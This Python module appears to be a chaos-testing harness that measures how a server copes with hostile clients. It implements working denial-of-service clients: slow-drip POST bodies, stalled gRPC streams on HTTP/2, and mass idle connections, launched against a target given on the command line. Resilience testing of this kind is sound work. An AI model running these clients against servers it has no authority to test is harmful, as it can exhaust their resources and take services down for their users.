"""Hostile clients, as an outsider runs them: slow bodies, stalled gRPC streams, idle connections.

Each keeps its pressure up (a connection or stream the server ends is opened again every
second) and counts what the server did to it, so a scenario can say how much one address held.
`python -m chaos.attackers` runs one in a process of its own, as an attacker's own machine
would: its CPU is then not the well-behaved client's.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions

_TOP_UP_SECONDS = 1.0
_CONNECT_TIMEOUT_SECONDS = 5.0
# Connections opened at once: a burst of thousands overflows the listen backlog of any server.
_CONNECTS_AT_ONCE = 200


@dataclass
class Pressure:
    """What one attacker managed: how much it held at once, and how the server answered."""

    opened: int = 0
    held_now: int = 0
    held_most: int = 0
    refused_connects: int = 0
    closed_by_server: int = 0
    answers: Counter[str] = field(default_factory=Counter)
    # (seconds since the attack began, held at that moment), sampled every top-up.
    held_over_time: list[tuple[float, int]] = field(default_factory=list)

    def hold(self, delta: int) -> None:
        """Note `delta` more (or fewer) things held open."""
        self.held_now += delta
        self.held_most = max(self.held_most, self.held_now)


async def _connect(
    host: str, port: int, source: str
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.wait_for(
        asyncio.open_connection(host, port, local_addr=(source, 0)), _CONNECT_TIMEOUT_SECONDS
    )


async def _open(
    pressure: Pressure, host: str, port: int, source: str
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    """Open a connection and count it held, or count it refused and return None."""
    try:
        opened = await _connect(host, port, source)
    except (OSError, TimeoutError):
        pressure.refused_connects += 1
        return None
    pressure.opened += 1
    pressure.hold(1)
    return opened


class SlowBodies:
    """Connections that each send a request's headers, then its body one byte a second."""

    def __init__(
        self,
        host: str,
        port: int,
        source: str,
        *,
        connections: int = 2400,
        path: str = "/vend-token",
        declared_length: int = 1000,
    ) -> None:
        self._host, self._port, self._source = host, port, source
        self._target = connections
        self._head = (
            f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {declared_length}\r\n\r\n"
        ).encode()
        self.pressure = Pressure()
        self._tasks: set[asyncio.Task[None]] = set()

    async def run(self, seconds: float) -> Pressure:
        """Keep `connections` dripping for `seconds`, reopening what the server closes."""
        began = time.monotonic()
        try:
            while time.monotonic() - began < seconds:
                missing = self._target - len(self._tasks)
                for start in range(0, missing, _CONNECTS_AT_ONCE):
                    batch = [
                        asyncio.create_task(self._drip())
                        for _ in range(min(_CONNECTS_AT_ONCE, missing - start))
                    ]
                    self._tasks.update(batch)
                    for task in batch:
                        task.add_done_callback(self._tasks.discard)
                    await asyncio.sleep(0)
                self.pressure.held_over_time.append(
                    (time.monotonic() - began, self.pressure.held_now)
                )
                await asyncio.sleep(_TOP_UP_SECONDS)
        finally:
            await _cancel(self._tasks)
        return self.pressure

    async def _drip(self) -> None:
        pressure = self.pressure
        opened = await _open(pressure, self._host, self._port, self._source)
        if opened is None:
            return
        reader, writer = opened
        try:
            writer.write(self._head)
            answer = asyncio.create_task(reader.read(256))
            while not answer.done():
                writer.write(b" ")
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(asyncio.shield(answer), _TOP_UP_SECONDS)
            head = answer.result()
            status = head.split(b" ", 2)[1].decode() if head.startswith(b"HTTP/") else "closed"
            pressure.answers[status] += 1
            pressure.closed_by_server += 1
        except (OSError, IndexError):
            pressure.closed_by_server += 1
            pressure.answers["reset"] += 1
        finally:
            pressure.hold(-1)
            writer.close()


class StallingConnection:
    """One HTTP/2 connection whose gRPC calls send their headers and never a message.

    It answers the connection's housekeeping (settings, pings) as any live client does, and
    notes how the server ends each call: "grpc-status <code>", or "reset".
    """

    def __init__(
        self,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        authority: str,
        headers: tuple[tuple[str, str], ...] = (),
    ) -> None:
        self._reader = reader
        self._writer = writer
        self._authority = authority
        self._headers = headers
        self._h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.open: set[int] = set()
        self.ended: dict[int, str] = {}
        self.closed = False
        self.settings_received = False
        self._changed = asyncio.Event()
        self._reading: asyncio.Task[None] | None = None

    @classmethod
    async def connect(
        cls, host: str, port: int, source: str, headers: tuple[tuple[str, str], ...] = ()
    ) -> StallingConnection:
        """Open a connection from `source` and set up HTTP/2 on it."""
        reader, writer = await _connect(host, port, source)
        connection = cls(reader, writer, f"{host}:{port}", headers)
        connection._h2.initiate_connection()
        connection._flush()
        connection._reading = asyncio.create_task(connection._read())
        return connection

    def stall(self, path: str, count: int = 1) -> list[int]:
        """Open up to `count` calls to `path` (as many as the server allows at once)."""
        room = self._h2.remote_settings.max_concurrent_streams - len(self.open)
        opened = []
        for _ in range(min(count, room)):
            stream_id = self._h2.get_next_available_stream_id()
            request = [
                (":method", "POST"),
                (":scheme", "http"),
                (":authority", self._authority),
                (":path", path),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *self._headers,
            ]
            self._h2.send_headers(stream_id, request, end_stream=False)
            self.open.add(stream_id)
            opened.append(stream_id)
        self._flush()
        return opened

    async def settled(self) -> None:
        """Wait until the server's settings arrived (they say how many calls it allows)."""
        await self.wait_until(lambda: self.settings_received, _CONNECT_TIMEOUT_SECONDS)

    async def wait_until(self, done: Callable[[], bool], within: float) -> bool:
        """Wait until `done()` holds, at most `within` seconds; tell whether it does."""
        deadline = time.monotonic() + within
        while not done():
            remaining = deadline - time.monotonic()
            if remaining <= 0 or self.closed:
                return done()
            self._changed.clear()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self._changed.wait(), remaining)
        return True

    def is_closed(self) -> bool:
        """Tell whether the server closed the connection."""
        return self.closed

    async def close(self) -> None:
        """Close the connection."""
        if self._reading is not None:
            self._reading.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._reading
        self._writer.close()

    async def _read(self) -> None:
        try:
            while data := await self._reader.read(65536):
                try:
                    events = self._h2.receive_data(data)
                except h2.exceptions.ProtocolError:
                    break
                for event in events:
                    self._note(event)
                self._flush()
                self._changed.set()
        except OSError:
            pass
        self.closed = True
        self._changed.set()

    def _note(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.RemoteSettingsChanged):
            self.settings_received = True
        stream_id = getattr(event, "stream_id", None)
        if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
            for name, value in event.headers:
                if name in (b"grpc-status", "grpc-status") and stream_id is not None:
                    code = value.decode() if isinstance(value, bytes) else value
                    self.ended[stream_id] = f"grpc-status {code}"
        if isinstance(event, h2.events.StreamReset) and stream_id is not None:
            self.ended.setdefault(stream_id, "reset")
        if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
            self.open.discard(stream_id)
            with contextlib.suppress(h2.exceptions.ProtocolError):
                self._h2.reset_stream(stream_id)  # type: ignore[arg-type]
        if isinstance(event, h2.events.ConnectionTerminated):
            self.ended.setdefault(0, "goaway")

    def _flush(self) -> None:
        data = self._h2.data_to_send()
        if data:
            self._writer.write(data)


class StalledStreams:
    """HTTP/2 connections whose gRPC calls send headers and never a message, kept topped up."""

    def __init__(
        self,
        host: str,
        port: int,
        source: str,
        *,
        connections: int = 6,
        streams: int = 1000,
        paths: tuple[str, ...] = ("/pluct.admin.v1.AdminService/ListUsers",),
    ) -> None:
        self._host, self._port, self._source = host, port, source
        self._connections = connections
        self._streams = streams
        self._paths = paths
        self.pressure = Pressure()
        self._live: list[StallingConnection] = []

    async def run(self, seconds: float) -> Pressure:
        """Keep every connection's calls stalled for `seconds`, reopening what the server ends."""
        began = time.monotonic()
        stop = began + seconds
        try:
            await asyncio.gather(*(self._connection(stop) for _ in range(self._connections)))
        finally:
            for connection in self._live:
                await connection.close()
        return self.pressure

    async def _connection(self, stop: float) -> None:
        pressure = self.pressure
        began = time.monotonic()
        while time.monotonic() < stop:
            try:
                connection = await StallingConnection.connect(self._host, self._port, self._source)
            except (OSError, TimeoutError):
                pressure.refused_connects += 1
                await asyncio.sleep(_TOP_UP_SECONDS)
                continue
            self._live.append(connection)
            await connection.settled()
            seen = 0
            while time.monotonic() < stop and not connection.closed:
                missing = self._streams - len(connection.open)
                for index, path in enumerate(self._paths):
                    share = missing // len(self._paths) + (index < missing % len(self._paths))
                    pressure.opened += len(connection.stall(path, share))
                held = sum(len(live.open) for live in self._live)
                pressure.held_now = held
                pressure.held_most = max(pressure.held_most, held)
                pressure.held_over_time.append((time.monotonic() - began, held))
                await connection.wait_until(connection.is_closed, _TOP_UP_SECONDS)
                for answer in list(connection.ended.values())[seen:]:
                    pressure.answers[answer] += 1
                seen = len(connection.ended)
            if connection.closed:
                pressure.closed_by_server += 1
            self._live.remove(connection)
            await connection.close()


class IdleConnections:
    """HTTP/2 connections that send the preface and their settings, then nothing at all."""

    def __init__(self, host: str, port: int, source: str, *, connections: int = 3000) -> None:
        self._host, self._port, self._source = host, port, source
        self._target = connections
        self.pressure = Pressure()

    async def run(self, seconds: float) -> Pressure:
        """Open the connections once; count how many the server closes within `seconds`."""
        began = time.monotonic()
        tasks: set[asyncio.Task[None]] = set()
        for start in range(0, self._target, _CONNECTS_AT_ONCE):
            batch = min(_CONNECTS_AT_ONCE, self._target - start)
            tasks.update(asyncio.create_task(self._idle(began + seconds)) for _ in range(batch))
            await asyncio.sleep(0)
        try:
            while time.monotonic() - began < seconds and any(not t.done() for t in tasks):
                self.pressure.held_over_time.append(
                    (time.monotonic() - began, self.pressure.held_now)
                )
                await asyncio.sleep(_TOP_UP_SECONDS)
        finally:
            await _cancel(tasks)
        return self.pressure

    async def _idle(self, stop: float) -> None:
        pressure = self.pressure
        opened = await _open(pressure, self._host, self._port, self._source)
        if opened is None:
            return
        reader, writer = opened
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        writer.write(connection.data_to_send())
        try:
            while time.monotonic() < stop:
                try:
                    data = await asyncio.wait_for(reader.read(65536), _TOP_UP_SECONDS)
                except TimeoutError:
                    continue
                if not data:
                    pressure.closed_by_server += 1
                    return
                # Settings acknowledged and pings answered, as any live client does.
                with contextlib.suppress(h2.exceptions.ProtocolError):
                    for event in connection.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            pressure.answers["goaway"] += 1
                writer.write(connection.data_to_send())
        except OSError:
            pressure.closed_by_server += 1
        finally:
            pressure.hold(-1)
            writer.close()


async def _cancel(tasks: set[asyncio.Task[None]]) -> None:
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


ATTACKS = {"slow-bodies": SlowBodies, "stalled-streams": StalledStreams, "idle": IdleConnections}


def main() -> None:
    """Run one attack from this process and print what it managed as JSON."""
    parser = argparse.ArgumentParser(prog="python -m chaos.attackers", description=__doc__)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("target", help="host:port to attack")
    parser.add_argument("--source", required=True, help="the local address to connect from")
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--path", action="append", help="stalled-streams: a method to stall")
    args = parser.parse_args()
    host, _, port = args.target.rpartition(":")
    options: dict[str, Any] = {}
    if args.path and args.attack == "stalled-streams":
        options["paths"] = tuple(args.path)
    attacker = ATTACKS[args.attack](host, int(port), args.source, **options)
    pressure = asyncio.run(attacker.run(args.seconds))
    print(json.dumps({**vars(pressure), "answers": dict(pressure.answers)}))


def pressure_from_json(text: str) -> Pressure:
    """Read what `main` printed."""
    fields = json.loads(text)
    fields["answers"] = Counter(fields["answers"])
    fields["held_over_time"] = [tuple(pair) for pair in fields["held_over_time"]]
    return Pressure(**fields)


if __name__ == "__main__":
    main()
